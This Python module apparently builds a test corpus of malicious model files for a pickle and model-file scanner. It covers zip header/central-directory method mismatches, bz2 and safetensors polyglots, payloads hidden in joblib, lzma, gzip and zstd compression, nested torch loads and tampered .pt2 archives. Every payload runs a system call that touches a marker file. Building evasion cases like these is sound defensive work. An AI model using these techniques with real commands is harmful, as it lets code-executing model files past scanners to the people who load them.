"""Issue 21's classes of technique: where the bytes a loader reads are not the bytes a
scanner reads. Each builder writes hostile files (a payload that touches a marker under a
real loader) into the hostile corpus (``hostile._Builder``):

- zip records whose local header and central directory disagree on the method;
- polyglots: a pickle that starts like bz2 (`BZh`) or like a safetensors header, a pickle
  named `.safetensors`;
- compression as loaders undo it: joblib's codecs (lz4, lzma with a non-default dictionary,
  its old `ZF` z-file), gzip members split across a pickle, zstd;
- nested loads: `torch.storage._load_from_bytes` / `pickle.loads` of literal bytes, one or
  two levels deep, in a raw pickle or a torch archive, of a zip or a legacy stream;
- torch.export `.pt2` archives whose pickled payloads (weights, opaque constants, sample
  inputs) carry the payload;
- a protocol-0 pickle whose payload comes after the first 64 KiB.
"""

from __future__ import annotations

import gzip
import importlib.util
import io
import json
import lzma
import struct
import zipfile
import zlib

from . import ops, streams, zips
from .zips import Rec

# loaders each case needs beyond torch/pickle, for cases built only when they are installed
NEEDS = {"joblib_lz4": ("joblib", "lz4"), "zstd_pickle": ("zstandard",), "joblib_lzma_dict_32k": ("joblib",),
         "joblib_zfile": ("joblib",), "joblib_xz": ("joblib",), "joblib_zlib": ("joblib",),
         "joblib_bz2": ("joblib",), "pt2_pickled_weight": ("torch",), "pt2_opaque_constant": ("torch",),
         "pt2_sample_inputs": ("torch",)}


def _archive(pkl: bytes) -> bytes:
    """A torch zip archive (as torch.save lays it out) whose data.pkl is ``pkl``."""
    return zips.build(zips.torch_records(pkl))


def load_from_bytes(blob: bytes, loader=("torch.storage", "_load_from_bytes")) -> bytes:
    """A whole pickle that calls ``loader(blob)``."""
    return ops.PROTO2 + ops.glob(*loader) + ops.binbytes(blob) + ops.TUPLE1 + ops.REDUCE + ops.STOP


def stored_vs_deflated(marker) -> bytes:
    """A data.pkl record whose stored bytes are a harmless pickle and whose deflate reading
    (one final stored block: 5 header bytes, then the raw content) is the payload. The local
    header says stored (sizes in a data descriptor), the central directory says deflate:
    miniz goes by the central directory and runs the payload.

    Stored: `)` EMPTY_TUPLE, `0` POP, `C` SHORT_BINBYTES of 0xCF bytes (the block's NLEN
    and the payload's first 206 bytes), then `0}.` hidden at offset 206 of the payload:
    the harmless pickle is `{}`. Deflated: BFINAL=1, BTYPE=stored, LEN=0x4330."""
    length = 0x4330
    hide = b"0}."  # at payload offset 206, inside the payload's first string
    head = ops.PROTO2 + b"C" + bytes([250])
    body = ops.system_call(marker)
    filler = b"x" * 250
    filler = filler[:206 - len(head)] + hide + filler[206 - len(head) + len(hide):]
    payload = head + filler + ops.POP + body + ops.POP
    pad = length - len(payload) - len(ops.EMPTY_DICT + ops.STOP) - 5 - 1
    payload += ops.bu("p" * pad) + ops.POP + ops.EMPTY_DICT + ops.STOP
    assert len(payload) == length, len(payload)
    raw = b")0" + bytes([0x43, 0xCF, 0xBC]) + payload
    assert zlib.decompressobj(-15).decompress(raw) == payload
    return _mismatched_archive(raw, payload, local_method=0, central_method=8)


def deflated_vs_stored(marker) -> bytes:
    """The other way round: the local header says deflate, the central directory says
    stored; the stored bytes are the payload."""
    payload = ops.hostile(marker)
    return _mismatched_archive(payload, payload, local_method=8, central_method=0)


def _mismatched_archive(raw: bytes, content: bytes, local_method: int, central_method: int) -> bytes:
    """data.pkl with ``raw`` as its data, a local header (sizes in a data descriptor) and a
    central-directory entry that name different methods; a storage record and torch's other
    records after it."""
    name = b"archive/data.pkl"
    crc = zlib.crc32(content)
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0x08, local_method, 0, 0x21, 0, 0, 0, len(name), 0) + name
    descriptor = struct.pack("<IIII", 0x08074B50, crc, len(raw), len(content))
    body = local + raw + descriptor
    entries = [(name, central_method, crc, len(raw), len(content), 0)]
    # a storage record after data.pkl: a reader walking the records sizes it from data.pkl
    # (read the local header's way) before it reads the central directory
    for rec in [Rec("archive/data/0", b"\0" * 8)] + zips.torch_records(b"")[1:]:
        offset = len(body)
        data = rec.data
        rname = rec.name.encode()
        # written as torch.save writes to a stream: sizes in a data descriptor after the data
        body += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0x08, 0, 0, 0x21, 0, 0, 0, len(rname), 0) + rname + data
        body += struct.pack("<IIII", 0x08074B50, zlib.crc32(data), len(data), len(data))
        entries.append((rname, 0, zlib.crc32(data), len(data), len(data), offset))
    cd = b""
    for rname, method, rcrc, comp, size, offset in entries:
        flags = 0x08
        cd += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, flags, method, 0, 0x21, rcrc, comp, size,
                          len(rname), 0, 0, 0, 0, 0, offset) + rname
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(cd), len(body), 0)
    return body + cd + end


def bzh_pickle(marker) -> bytes:
    """Starts `BZh` (bz2's magic) but is a pickle: BINBYTES whose length bytes are `Zh\\0\\0`."""
    length = int.from_bytes(b"Zh\x00\x00", "little")
    return b"B" + b"Zh\x00\x00" + b"\x00" * length + ops.POP + ops.system_call(marker) + ops.STOP


def safetensors_head_pickle(marker) -> bytes:
    """Its first 8 bytes, read as a little-endian length, are small and byte 8 is `{`: a
    safetensors header by the look of it. It is BINFLOAT, then the payload."""
    return b"G" + b"\x00" * 7 + b"{" + ops.POP + ops.system_call(marker) + ops.STOP


def late_protocol0(marker) -> bytes:
    """No PROTO header; a 100 KB string first, the call after it."""
    return (b"S'" + b"a" * 100_000 + b"'\n" + ops.POP + b"cposix\nsystem\n(S'" + ops.touch_cmd(marker).encode()
            + b"'\ntR.")


def lzma_dict_32k(data: bytes) -> bytes:
    return lzma.compress(data, format=lzma.FORMAT_ALONE, filters=[{"id": lzma.FILTER_LZMA1, "dict_size": 1 << 15}])


def zfile(data: bytes) -> bytes:
    """joblib's pre-0.9.3 z-file: `ZF`, the length in hex padded to 19, zlib data."""
    return b"ZF" + hex(len(data)).encode().ljust(19) + zlib.compress(data)


def split_gzip(data: bytes) -> bytes:
    half = len(data) // 2
    return gzip.compress(data[:half]) + gzip.compress(data[half:])


def build(b, torch=None, optional: bool = True) -> None:
    """Add every case to the hostile corpus builder ``b`` (hostile._Builder); ``optional``:
    also the cases that need torch, joblib or a codec module (``NEEDS``), when installed."""
    add = b.add
    add("zip_local_stored_central_deflate", "zip_local_stored_central_deflate.pt",
        stored_vs_deflated(b.marker("zip_local_stored_central_deflate")), ("torch",))
    add("zip_local_deflate_central_stored", "zip_local_deflate_central_stored.pt",
        deflated_vs_stored(b.marker("zip_local_deflate_central_stored")), ("torch",))
    add("polyglot_bzh_pickle", "polyglot_bzh.pkl", bzh_pickle(b.marker("polyglot_bzh_pickle")), ("pickle", "torch"))
    add("polyglot_safetensors_head_pt", "polyglot_safetensors_head.pt",
        safetensors_head_pickle(b.marker("polyglot_safetensors_head_pt")), ("pickle", "torch"))
    add("polyglot_safetensors_head_named", "named/model.safetensors",
        safetensors_head_pickle(b.marker("polyglot_safetensors_head_named")), ("pickle",))
    add("pickle_named_safetensors", "pickle_named/model.safetensors",
        ops.hostile(b.marker("pickle_named_safetensors")), ("pickle",))
    add("late_protocol0_payload", "late_protocol0.dat", late_protocol0(b.marker("late_protocol0_payload")), ("pickle",))
    # compression as the loaders undo it
    add("lzma_dict_32k_pickle", "lzma_dict_32k.pkl.lzma",
        lzma_dict_32k(ops.hostile(b.marker("lzma_dict_32k_pickle"))), ("lzma_pickle",))
    add("gzip_split_members", "split.pkl.gz", split_gzip(ops.hostile(b.marker("gzip_split_members"))),
        ("gzip_pickle",))
    if optional and importlib.util.find_spec("joblib"):
        add("joblib_lzma_dict_32k", "joblib_lzma_dict_32k.joblib",
            lzma_dict_32k(ops.hostile(b.marker("joblib_lzma_dict_32k"))), ("joblib",))
        add("joblib_zfile", "joblib_zfile.joblib", zfile(ops.hostile(b.marker("joblib_zfile"))), ("joblib",))
        for codec in ("xz", "zlib", "bz2") + (("lz4",) if importlib.util.find_spec("lz4") else ()):
            _joblib_dump(b, f"joblib_{codec}", codec)
    if optional and importlib.util.find_spec("zstandard"):
        import zstandard

        add("zstd_pickle", "model.pkl.zst", zstandard.ZstdCompressor().compress(ops.hostile(b.marker("zstd_pickle"))),
            ("zstd_pickle",))
    # nested loads
    add("nested_load_from_bytes", "nested_load_from_bytes.pkl",
        load_from_bytes(_archive(ops.hostile(b.marker("nested_load_from_bytes")))), ("pickle", "torch"))
    add("nested_in_archive", "nested_in_archive.pt",
        _archive(load_from_bytes(_archive(ops.hostile(b.marker("nested_in_archive"))))), ("torch",))
    add("nested_two_levels", "nested_two_levels.pkl",
        load_from_bytes(_archive(load_from_bytes(_archive(ops.hostile(b.marker("nested_two_levels")))))),
        ("pickle", "torch"))
    add("nested_legacy_stream", "nested_legacy_stream.pkl",
        load_from_bytes(streams.legacy({3: ops.hostile(b.marker("nested_legacy_stream"))})), ("pickle",))
    add("nested_pickle_loads", "nested_pickle_loads.pkl",
        load_from_bytes(ops.hostile(b.marker("nested_pickle_loads")), ("pickle", "loads")), ("pickle",))
    add("nested_protocol2_bytes", "nested_protocol2_bytes.pkl",
        _load_from_codecs_encode(_archive(ops.hostile(b.marker("nested_protocol2_bytes")))), ("pickle",))
    if optional and torch is not None:
        _pt2(b, torch)


def _load_from_codecs_encode(blob: bytes) -> bytes:
    """Protocol 2 writes bytes as `_codecs.encode(text, "latin1")`."""
    text = blob.decode("latin1")
    arg = ops.glob("_codecs", "encode") + ops.bu(text) + ops.bu("latin1") + ops.TUPLE2 + ops.REDUCE
    return ops.PROTO2 + ops.glob("torch.storage", "_load_from_bytes") + arg + ops.TUPLE1 + ops.REDUCE + ops.STOP


def _joblib_dump(b, name: str, codec: str) -> None:
    import joblib

    path = b.root / f"{name}.joblib"
    joblib.dump({"w": [1.0, 2.0], "hook": ops._Touch(str(b.marker(name)))}, path, compress=(codec, 3))
    b.add_file(name, path, ("joblib",))


def _pt2(b, torch) -> None:
    """torch.export archives: a real one, then each kind of pickled payload swapped in."""
    real = b.root / "pt2_base.pt2"
    export_model(torch, real)
    with zipfile.ZipFile(real) as z:
        records = [(i.filename, z.read(i.filename)) for i in z.infolist()]
    prefix = records[0][0].split("/")[0] + "/"

    def write(name, change, extra=()):
        recs = [Rec(n, change(n[len(prefix):], d)) for n, d in records] + [Rec(prefix + n, d) for n, d in extra]
        b.add(name, f"{name}.pt2", zips.build(recs), ("pt2",))

    def weights(rel, data):
        if rel != "data/weights/model_weights_config.json":
            return data
        config = json.loads(data)
        first = sorted(config["config"])[0]
        config["config"][first].update(path_name="weight_pickled", use_pickle=True)
        return json.dumps(config).encode()

    write("pt2_pickled_weight", weights,
          [("data/weights/weight_pickled", _archive(ops.hostile(b.marker("pt2_pickled_weight"))))])

    def constants(rel, data):
        if rel != "data/constants/model_constants_config.json":
            return data
        config = json.loads(data)
        config["config"]["opaque"] = {"path_name": "opaque_obj_0", "is_param": False, "use_pickle": True,
                                      "tensor_meta": None}
        return json.dumps(config).encode()

    write("pt2_opaque_constant", constants,
          [("data/constants/opaque_obj_0", ops.hostile(b.marker("pt2_opaque_constant"), protocol=ops.PROTO4))])
    marker = b.marker("pt2_sample_inputs")
    write("pt2_sample_inputs", lambda rel, d: _archive(ops.hostile(marker)) if rel.startswith("data/sample_inputs/") else d)


def export_model(torch, path) -> None:
    """``torch.export.save`` of a small module with a parameter, a buffer and a constant."""

    class Small(torch.nn.Module):
        def __init__(self):
            super().__init__()
            self.linear = torch.nn.Linear(3, 2)
            self.register_buffer("offset", torch.ones(2))

        def forward(self, x):
            return self.linear(x) + self.offset

    torch.manual_seed(0)
    program = torch.export.export(Small(), (torch.randn(1, 3),))
    torch.export.save(program, str(path))


def to_bytes(obj, protocol=2) -> bytes:
    buf = io.BytesIO()
    import pickle

    pickle.dump(obj, buf, protocol=protocol)
    return buf.getvalue()
